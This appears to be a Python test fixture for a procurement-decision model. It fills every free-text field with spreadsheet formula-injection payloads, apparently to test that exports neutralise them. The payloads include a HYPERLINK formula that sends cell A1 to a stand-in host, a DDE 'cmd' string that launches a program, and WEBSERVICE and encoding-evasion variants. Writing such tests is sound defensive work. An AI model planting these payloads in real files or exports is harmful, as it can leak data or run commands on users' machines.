"""A decision in which every text that somebody may write freely looks like something a program would run."""

from selection.model.base import Money
from selection.model.criteria import Branch, CriteriaSet, Criterion, DeliveryLadder, Group, Linear, Ordinal
from selection.model.decision import Baseline, Bid, Commitment, Decision, NodeWeights, Offer, Phase
from selection.model.judgements import AcceptedGap, Answer, Score
from selection.model.needs import Need
from selection.model.profiles import (
    Attribute,
    Edition,
    Fact,
    Implementation,
    IntegratorProfile,
    PlatformProfile,
)

PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://example.invalid")',
    "\t=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff20SUM(1)",
    "{=SUM(1,1)}",
    "#REF!",
    "http://example.invalid/<b>&amp;\"'",
    "'=1+1 _x0041_ ]]>&<",
)


def poisoned(payload: str) -> Decision:
    """Write a payload wherever text is free; where names must differ, something stands behind it."""

    def named(number: int) -> str:
        return f"{payload} {number}"

    def fact(value: object) -> Fact:
        return Fact.model_validate(
            {
                "value": value,
                "as_of": "2026-08",
                "source": payload,
                "method": "secondary",
                "confidence": "low",
                "note": payload,
            }
        )

    def criterion(name: str, scope: str, value: object, **more: object) -> Criterion:
        texts = {"name": payload, "definition": payload, "group": "g", "sources": (payload,)}
        direction = {"scope": scope, "direction": "increasing", "from": "measure"}
        return Criterion.model_validate({"id": name, **texts, **direction, "value": value, **more})

    scale = Linear(kind="linear", unit=payload, worst=0, best=10)
    levels = Ordinal(kind="ordinal", levels=(payload, named(1), named(2)))
    told = {"reason": payload, "source": payload, "by": payload, "evidence": "claim"}
    return Decision(
        id="poisoned",
        title=payload,
        mode="tender",
        phases=(Phase(id="P1", title=payload, starts="2027-01"),),
        needs=(
            Need(id="N1", text=payload, tier="must", phase="P1", owner=payload, reason=payload),
            Need(id="N2", text=payload, tier="nice"),
        ),
        groups=(Group(id="g", name=payload),),
        criteria=(
            criterion("F", "platform", DeliveryLadder(kind="delivery_ladder"), **{"from": "needs"}),
            criterion("L", "platform", scale),
            criterion("O", "integrator", levels),
        ),
        criteria_set=CriteriaSet(
            kind="criteria_set",
            id="s",
            version=1,
            title=payload,
            platform=(Branch(group="g", criteria=("F", "L")),),
            integrator=("O",),
            every_need_feeds="F",
        ),
        weights={"sides": NodeWeights(points={"platform": 1, "integrator": 1})},
        attributes=(Attribute(id="api", title=payload, type="text", unit=payload),),
        platforms=(
            PlatformProfile(
                kind="platform",
                id="p",
                name=named(3),
                vendor=payload,
                editions=(Edition(name=payload, deployment="cloud"),),
                facts={"api": (fact(payload),)},
            ),
        ),
        integrators=(
            IntegratorProfile(
                kind="integrator",
                id="i",
                name=named(4),
                implements={"p": Implementation(answer="yes", facts={"api": (fact(payload),)})},
            ),
        ),
        offers=(
            Offer(
                id="o", product="p", edition=payload, deployment="cloud", add_ons=(payload,), name=named(5)
            ),
        ),
        bids=(
            Bid(
                id="b",
                name=named(6),
                offer="o",
                integrator="i",
                project_manager=payload,
                price=Money(amount=1, currency="EUR"),
                commitments=(
                    Commitment(need="N1", price=Money(amount=1, currency="EUR"), by="2026-12", note=payload),
                ),
            ),
        ),
        answers={
            "o": {
                "N1": Answer.model_validate(
                    {
                        **told,
                        "delivery": "partial",
                        "gap": payload,
                        "accepted": AcceptedGap(reason=payload, by=payload),
                    }
                )
            }
        },
        scores={
            "o": {"L": Score.model_validate({**told, "performance": -5.0})},
            "i": {"O": Score.model_validate({**told, "performance": 1.0})},
        },
        baseline=Baseline(name=named(7), kind="keep"),
    )
